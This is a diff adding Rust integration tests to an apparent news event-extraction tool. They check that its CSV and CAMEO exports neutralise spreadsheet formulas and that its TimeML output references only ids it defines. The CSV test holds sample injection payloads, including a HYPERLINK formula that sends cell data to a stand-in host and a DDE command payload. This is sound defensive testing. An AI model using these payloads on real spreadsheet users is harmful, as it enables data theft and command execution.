@@ -401,3 +401,121 @@ fn jsonl_streams_in_constant_memory() {
         "peak memory grew from {after_small} kB after 500 articles to {after_large} kB after 5,500"
     );
 }
+
+/// A field a spreadsheet would run as a formula: after leading spaces it begins with
+/// `=`, `+`, `-`, `@`, a tab or a carriage return (OWASP's CSV-injection rule).
+fn runs_in_a_spreadsheet(field: &str) -> bool {
+    matches!(field.trim_start_matches(' ').as_bytes().first(), Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'))
+}
+
+#[test]
+fn no_export_field_runs_as_a_spreadsheet_formula() {
+    let dir = tempdir();
+    let lead = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", " =1+2"];
+    for (i, l) in lead.iter().enumerate() {
+        std::fs::write(
+            dir.join(format!("a{i}.txt")),
+            format!(
+                "date 2024-03-06\n{l} Turkish President Recep Tayyip Erdogan spoke by phone with Russian President Vladimir Putin on Monday.\n"
+            ),
+        )
+        .unwrap();
+    }
+    let path = dir.to_str().unwrap();
+    let out = run(&["analyze", "--today", "2026-11-22", "--format", "csv", path]);
+    assert!(out.status.success(), "stderr: {}", String::from_utf8_lossy(&out.stderr));
+    let mut reader = csv::Reader::from_reader(out.stdout.as_slice());
+    let headers = reader.headers().unwrap().clone();
+    let sentence = headers.iter().position(|h| h == "sentence").unwrap();
+    let mut rows = 0;
+    let mut formulas_kept = 0;
+    for rec in reader.records() {
+        let rec = rec.unwrap();
+        rows += 1;
+        for f in rec.iter() {
+            assert!(!runs_in_a_spreadsheet(f), "a field a spreadsheet would run: {f:?}");
+        }
+        // The text is intact behind the quote.
+        if lead.iter().any(|l| rec[sentence].contains(l.trim_start_matches(['\t', ' ']))) {
+            formulas_kept += 1;
+        }
+    }
+    assert!(rows >= lead.len(), "one call row per article at least: {rows}");
+    assert!(formulas_kept >= 3, "the formulas' text is kept in the evidence: {formulas_kept}");
+    let out = run(&["analyze", "--today", "2026-11-22", "--format", "cameo", path]);
+    assert!(out.status.success());
+    let tsv = String::from_utf8(out.stdout).unwrap();
+    let mut n = 0;
+    for line in tsv.lines().skip(1) {
+        n += 1;
+        for f in line.split('\t') {
+            assert!(!runs_in_a_spreadsheet(f), "a CAMEO-table field a spreadsheet would run: {f:?}");
+        }
+    }
+    assert!(n >= lead.len());
+    assert!(tsv.contains("'=HYPERLINK"), "the evidence begins with the formula, quoted");
+}
+
+/// `dateline timeml` on the whole TempEval-3 training corpus (from `../shared`): every
+/// id an output file names (links, instances, anchors) is defined in it, and no id is
+/// defined twice, so the TempEval-3 toolkit's schema check has nothing to refuse.
+#[test]
+fn timeml_output_names_only_ids_it_defines() {
+    let corpus = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../shared/corpora/tempeval3-train");
+    let mut files: Vec<String> = Vec::new();
+    for sub in ["TimeBank", "AQUAINT"] {
+        for e in std::fs::read_dir(corpus.join(sub)).expect("the TempEval-3 training corpus in ../shared") {
+            let p = e.unwrap().path();
+            if p.extension().is_some_and(|x| x == "tml") {
+                files.push(p.to_str().unwrap().to_string());
+            }
+        }
+    }
+    assert!(files.len() >= 250, "{} files", files.len());
+    let out_dir = tempdir();
+    let mut args = vec!["timeml", "--out", out_dir.to_str().unwrap()];
+    args.extend(files.iter().map(String::as_str));
+    let out = run(&args);
+    assert!(out.status.success(), "stderr: {}", String::from_utf8_lossy(&out.stderr));
+    let attr_values = |doc: &str, name: &str| -> Vec<String> {
+        let pat = format!(" {name}=\"");
+        doc.match_indices(&pat)
+            .map(|(k, _)| {
+                let v = &doc[k + pat.len()..];
+                v[..v.find('"').unwrap()].to_string()
+            })
+            .collect()
+    };
+    let mut checked = 0;
+    for f in &files {
+        let name = std::path::Path::new(f).file_name().unwrap();
+        let doc = std::fs::read_to_string(out_dir.join(name)).expect("an output file per input");
+        let mut defined = std::collections::HashSet::new();
+        for id_attr in ["tid", "eid", "eiid", "lid", "sid"] {
+            for v in attr_values(&doc, id_attr) {
+                assert!(defined.insert(v.clone()), "{name:?}: id {v} defined twice");
+            }
+        }
+        for r in [
+            "eventID", "eventInstanceID", "timeID", "relatedToTime", "relatedToEventInstance", "anchorTimeID",
+            "beginPoint", "endPoint", "subordinatedEventInstance", "signalID",
+        ] {
+            for v in attr_values(&doc, r) {
+                assert!(defined.contains(&v), "{name:?}: {r}=\"{v}\" names no element");
+                checked += 1;
+            }
+        }
+        let opened = doc
+            .match_indices("<TIMEX3")
+            .filter(|(k, _)| {
+                let gt = doc[*k..].find('>').unwrap();
+                !doc[..k + gt].ends_with('/')
+            })
+            .count();
+        assert_eq!(opened, doc.matches("</TIMEX3>").count(), "{name:?}: TIMEX3 tags balanced");
+        assert!(doc.contains("CREATION_TIME"), "{name:?} keeps its creation time");
+    }
+    // The creation times' own references (if any) were checked; the links are gone.
+    let _ = checked;
+    let _ = std::fs::remove_dir_all(&out_dir);
+}
